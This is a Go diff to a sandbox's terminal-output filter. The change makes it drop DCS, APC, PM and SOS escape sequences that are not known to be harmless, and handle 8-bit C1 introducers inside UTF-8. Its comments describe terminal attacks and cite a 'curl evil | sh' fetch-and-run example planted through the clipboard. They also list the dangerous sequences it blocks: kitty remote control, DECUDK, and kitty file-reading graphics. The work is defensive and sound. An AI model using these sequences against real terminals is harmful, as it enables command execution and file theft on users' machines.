@@ -1,14 +1,28 @@
 package bwrap
 
-import "bytes"
+import (
+	"bytes"
+	"encoding/binary"
+	"strings"
+)
 
 // The sandbox's terminal output reaches the host's terminal emulator, which obeys more
-// than text. Two things are not the sandbox's to do there (a hostile review did both):
+// than text. Three things are not the sandbox's to do there (hostile reviews did each):
 //   - operating system commands that act outside the terminal's screen: OSC 52 sets the
 //     host's clipboard (a "curl evil | sh" the operator pastes later), kitty's OSC 5522
 //     reads and writes it too, iTerm2's OSC 1337 writes files (File=) and sets
 //     variables, OSC 50 changes the font (the old xterm font-name exploits); oscFilter
 //     drops them from the stream;
+//   - the other string sequences, which terminals give powers no list of names keeps up
+//     with: a DCS "@kitty-cmd" is kitty's remote control (with allow_remote_control yes,
+//     "launch" runs a command on the host and "get-text" reads your other windows), a
+//     DCS "|" is DECUDK (xterm: your function keys type the sandbox's text into whatever
+//     you run after it), "1000p" starts iTerm2's tmux integration, "tmux;" hands a
+//     sequence to the terminal outside tmux, an APC "G" with t=f, t=t or t=s makes kitty
+//     read (and for t=t delete) a host file by its path. So they fail closed: oscFilter
+//     passes only the DCS it knows to act on the screen or answer a query (sixel,
+//     DECRQSS, XTGETTCAP, synchronized update) and kitty's graphics sent in the
+//     sequence itself (t=d); every other DCS, APC, PM and SOS is dropped;
 //   - a screen state left behind (concealed text, an alternate screen, a hidden cursor,
 //     mouse reporting) that hides or garbles what box prints after the run, its audit
 //     report first; terminalReset puts those back before box says anything.
@@ -37,7 +51,40 @@ const (
 	oscNumber           // after ESC ] or the 8-bit OSC (0x9d), reading the number
 	oscDrop             // inside a dropped sequence
 	oscDropEsc          // inside a dropped sequence, after ESC
+	strHeader           // after a DCS or APC introducer, reading what decides it
 )
+
+// strKind is the string sequence whose header strHeader reads.
+type strKind uint8
+
+const (
+	strDCS strKind = iota
+	strAPC
+)
+
+// strMaxHeader bounds a DCS's parameters and intermediates, or an APC's control data,
+// held before the decision: past it the sequence is no one box passes, and is dropped.
+const strMaxHeader = 64
+
+// The 8-bit introducers of the other string sequences (DCS, SOS, PM, APC). Unlike 0x9d
+// they are taken for one only where a UTF-8 terminal reads a control: raw, where no
+// UTF-8 character is being continued, or encoded (C2 90: U+0090). Inside a character
+// (Cyrillic A is D0 90) a UTF-8 terminal reads text; dropping from there would garble
+// every such text, since these sequences fail closed whatever follows.
+const (
+	c1DCS = 0x90
+	c1SOS = 0x98
+	c1PM  = 0x9e
+	c1APC = 0x9f
+)
+
+// groundStop marks the bytes the ground state stops at: ESC and the 8-bit introducers.
+var groundStop = func() (t [256]bool) {
+	for _, b := range []byte{0x1b, c1DCS, c1SOS, c1OSC, c1PM, c1APC} {
+		t[b] = true
+	}
+	return t
+}()
 
 // c1OSC is the 8-bit OSC. A terminal in UTF-8 reads it encoded (C2 9D, U+009D: xterm,
 // VTE), an 8-bit one raw, and an 8-bit one reads it inside a UTF-8 character too (the
@@ -52,6 +99,14 @@ type oscFilter struct {
 	c1      bool   // the sequence began with c1OSC, not ESC ]
 	num     []byte // the OSC number read so far (at most oscMaxDigits)
 	dropped int
+	// A DCS or APC being decided: its kind, its introducer as written (ESC P, or the
+	// 8-bit byte) and the header read so far.
+	kind  strKind
+	intro []byte
+	hdr   []byte
+	// hist is the last bytes of ground text before src (at most 3): whether an 8-bit
+	// introducer at src's start continues a UTF-8 character.
+	hist []byte
 }
 
 // filter appends what of src passes to dst and returns it. The bytes of a sequence cut
@@ -60,24 +115,41 @@ func (f *oscFilter) filter(dst, src []byte) []byte {
 	for len(src) > 0 {
 		switch f.state {
 		case oscGround:
-			i := bytes.IndexByte(src, 0x1b)
-			if j := bytes.IndexByte(src, c1OSC); j >= 0 && (i < 0 || j < i) {
-				dst = append(dst, src[:j]...)
-				src = src[j+1:]
-				f.state, f.c1, f.num = oscNumber, true, f.num[:0]
-				continue
-			}
+			i := f.groundEnd(src)
 			if i < 0 {
+				f.remember(src)
 				return append(dst, src...)
 			}
 			dst = append(dst, src[:i]...)
+			b := src[i]
 			src = src[i+1:]
-			f.state = oscEsc
+			f.hist = f.hist[:0]
+			switch b {
+			case 0x1b:
+				f.state = oscEsc
+			case c1OSC:
+				f.state, f.c1, f.num = oscNumber, true, f.num[:0]
+			case c1DCS:
+				f.startString(strDCS, []byte{b})
+			case c1APC:
+				f.startString(strAPC, []byte{b})
+			default: // SOS, PM: nothing a terminal should obey from the sandbox
+				f.state, f.dropped = oscDrop, 0
+			}
 		case oscEsc:
 			b := src[0]
 			switch b {
 			case ']':
 				f.state, f.c1, f.num = oscNumber, false, f.num[:0]
+				src = src[1:]
+			case 'P':
+				f.startString(strDCS, []byte{0x1b, 'P'})
+				src = src[1:]
+			case '_':
+				f.startString(strAPC, []byte{0x1b, '_'})
+				src = src[1:]
+			case '^', 'X': // PM, SOS
+				f.state, f.dropped = oscDrop, 0
 				src = src[1:]
 			case 0x1b:
 				dst = append(dst, 0x1b) // ESC ESC: the first is done, the second starts again
@@ -133,6 +205,19 @@ func (f *oscFilter) filter(dst, src []byte) []byte {
 				f.state = oscGround // BEL ends it; CAN and SUB cancel it
 			}
 			src = src[i+1:]
+		case strHeader:
+			act := f.header(src[0])
+			if act&hdrTake != 0 {
+				src = src[1:]
+			}
+			switch {
+			case act&hdrPass != 0:
+				dst = append(dst, f.intro...)
+				dst = append(dst, f.hdr...)
+				f.state = oscGround
+			case act&hdrDrop != 0:
+				f.state, f.dropped = oscDrop, 0
+			}
 		case oscDropEsc:
 			if src[0] == '\\' {
 				f.state = oscGround // ST ends it
@@ -143,6 +228,180 @@ func (f *oscFilter) filter(dst, src []byte) []byte {
 		}
 	}
 	return dst
+}
+
+// startString begins deciding a DCS or APC introduced by intro.
+func (f *oscFilter) startString(k strKind, intro []byte) {
+	f.state, f.kind = strHeader, k
+	f.intro = append(f.intro[:0], intro...)
+	f.hdr = f.hdr[:0]
+}
+
+// What header does with a byte: takes it (into the header, or as the DCS's final byte)
+// or leaves it to the next state, and whether the sequence is decided, passed or dropped.
+const (
+	hdrTake = 1 << iota
+	hdrPass
+	hdrDrop
+)
+
+// header reads one byte of a DCS's or APC's header and says what to do.
+func (f *oscFilter) header(b byte) int {
+	if f.kind == strAPC {
+		switch {
+		case len(f.hdr) == 0 && b != 'G':
+			return hdrDrop // no APC but kitty's graphics is passed
+		case b == ';' || b == 0x1b:
+			// The control data's end: the payload (or ST) follows.
+			if kittyDirect(f.hdr[1:]) {
+				return hdrPass
+			}
+			return hdrDrop
+		case len(f.hdr) < strMaxHeader && (b == 'G' && len(f.hdr) == 0 || kittyCtrlByte(b)):
+			f.hdr = append(f.hdr, b)
+			return hdrTake
+		}
+		return hdrDrop
+	}
+	switch {
+	case b >= 0x20 && b <= 0x3f && len(f.hdr) < strMaxHeader: // parameters, intermediates
+		f.hdr = append(f.hdr, b)
+		return hdrTake
+	case b >= 0x40 && b <= 0x7e: // the final byte
+		f.hdr = append(f.hdr, b)
+		if dcsKnown(f.hdr) {
+			return hdrTake | hdrPass
+		}
+		return hdrTake | hdrDrop
+	}
+	return hdrDrop // a control, ESC, or a header past the bound: no DCS box passes
+}
+
+// dcsKnown: a DCS (parameters, intermediates, final byte) box passes: sixel graphics
+// ("q" after numeric parameters), DECRQSS ("$q") and XTGETTCAP ("+q"), whose answers
+// come back to the sandbox's own terminal, and the synchronized update ("=1s", "=2s").
+// Every other (DECUDK "|", XTSETTCAP "+p", DECRSTS "$p", kitty's "@kitty-cmd", tmux's
+// "tmux;", iTerm2's "1000p", ReGIS, soft fonts, ...) is dropped.
+func dcsKnown(h []byte) bool {
+	final, h := h[len(h)-1], h[:len(h)-1]
+	i := 0
+	for i < len(h) && h[i] >= 0x30 { // parameters 0x30-0x3f
+		i++
+	}
+	params, inter := string(h[:i]), string(h[i:])
+	for _, c := range []byte(inter) {
+		if c >= 0x30 {
+			return false // a parameter after an intermediate: malformed
+		}
+	}
+	switch {
+	case final == 'q' && inter == "":
+		return strings.Trim(params, "0123456789;") == "" // sixel
+	case final == 'q' && (inter == "$" || inter == "+"):
+		return params == ""
+	case final == 's' && inter == "":
+		return params == "=1" || params == "=2"
+	}
+	return false
+}
+
+// kittyCtrlByte: a byte of kitty graphics' control data (key=value pairs by commas).
+func kittyCtrlByte(b byte) bool {
+	return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || b == '=' || b == ',' || b == '-'
+}
+
+// kittyDirect: kitty graphics control data whose image, if any, travels in the sequence
+// itself (t absent or t=d). t=f, t=t and t=s make kitty open a path or a shared-memory
+// object on the host, as you (t=t and t=s then delete it); a malformed pair is dropped.
+func kittyDirect(ctrl []byte) bool {
+	if len(ctrl) == 0 {
+		return true
+	}
+	for _, kv := range bytes.Split(ctrl, []byte{','}) {
+		k, v, ok := bytes.Cut(kv, []byte{'='})
+		if !ok || len(k) != 1 || len(v) == 0 {
+			return false
+		}
+		if k[0] == 't' && string(v) != "d" {
+			return false
+		}
+	}
+	return true
+}
+
+// groundEnd is where src's ground text ends: the index of the first ESC or 8-bit
+// introducer a UTF-8 terminal reads as a control (-1: none). It looks a window at a
+// time for ESC (IndexByte) and for a byte with its high bit set (a word at a time),
+// so plain text costs no per-byte branch and no window is read twice.
+func (f *oscFilter) groundEnd(src []byte) int {
+	const window = 512
+	for start := 0; start < len(src); start += window {
+		w := src[start:min(start+window, len(src))]
+		lim := len(w)
+		if e := bytes.IndexByte(w, 0x1b); e >= 0 {
+			lim = e
+		}
+		for i := 0; i < lim; i++ {
+			if i+8 <= lim && binary.LittleEndian.Uint64(w[i:])&0x8080808080808080 == 0 {
+				i += 7
+				continue
+			}
+			if b := w[i]; groundStop[b] && (b == c1OSC || f.c1Control(src, start+i)) {
+				return start + i
+			}
+		}
+		if lim < len(w) {
+			return start + lim
+		}
+	}
+	return -1
+}
+
+// c1Control: the byte at src[i] (0x80-0xbf) is a control to a UTF-8 terminal, not a
+// character's continuation: no lead byte before it expects it, or it follows C2 at once
+// (U+0080-U+009F are the C1 controls). The bytes before src are f.hist.
+func (f *oscFilter) c1Control(src []byte, i int) bool {
+	before := func(k int) int { // the byte k places before src[i], -1 when unknown
+		if j := i - k; j >= 0 {
+			return int(src[j])
+		} else if j += len(f.hist); j >= 0 {
+			return int(f.hist[j])
+		}
+		return -1
+	}
+	k := 0 // continuation bytes right before
+	for k < 3 {
+		if c := before(k + 1); c >= 0x80 && c <= 0xbf {
+			k++
+			continue
+		}
+		break
+	}
+	lead, need := before(k+1), 0
+	switch {
+	case lead >= 0xc2 && lead <= 0xdf:
+		need = 1
+	case lead >= 0xe0 && lead <= 0xef:
+		need = 2
+	case lead >= 0xf0 && lead <= 0xf4:
+		need = 3
+	}
+	if lead == 0xc2 && k == 0 {
+		return true // U+0090, U+0098, U+009E, U+009F
+	}
+	return k+1 > need
+}
+
+// remember keeps the last ground bytes for c1Control across reads.
+func (f *oscFilter) remember(src []byte) {
+	if len(src) >= 3 {
+		f.hist = append(f.hist[:0], src[len(src)-3:]...)
+		return
+	}
+	f.hist = append(f.hist, src...)
+	if n := len(f.hist); n > 3 {
+		f.hist = append(f.hist[:0], f.hist[n-3:]...)
+	}
 }
 
 // oscDroppedNumber: the number, read as terminals read it (leading zeros ignored: xterm,
